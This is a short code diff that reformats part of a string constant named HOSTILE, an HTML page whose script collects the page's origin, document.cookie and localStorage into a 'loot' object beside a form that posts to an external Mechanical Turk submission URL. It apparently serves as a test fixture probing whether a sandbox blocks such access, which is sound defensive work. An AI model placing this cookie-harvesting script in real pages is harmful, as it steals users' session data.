@@ -35,7 +35,9 @@ HOSTILE = """<!doctype html><form method="post" action="https://www.mturk.com/mt
 <input name="assignmentId"><textarea name="loot"></textarea></form><script>
 (async () => {
   const loot = {};
-  const attempt = async (name, act) => { try { loot[name] = String(await act()); } catch (e) { loot[name] = "refused"; } };
+  const attempt = async (name, act) => {
+    try { loot[name] = String(await act()); } catch (e) { loot[name] = "refused"; }
+  };
   await attempt("origin", () => window.origin);
   await attempt("cookie", () => document.cookie);
   await attempt("storage", () => localStorage.length);
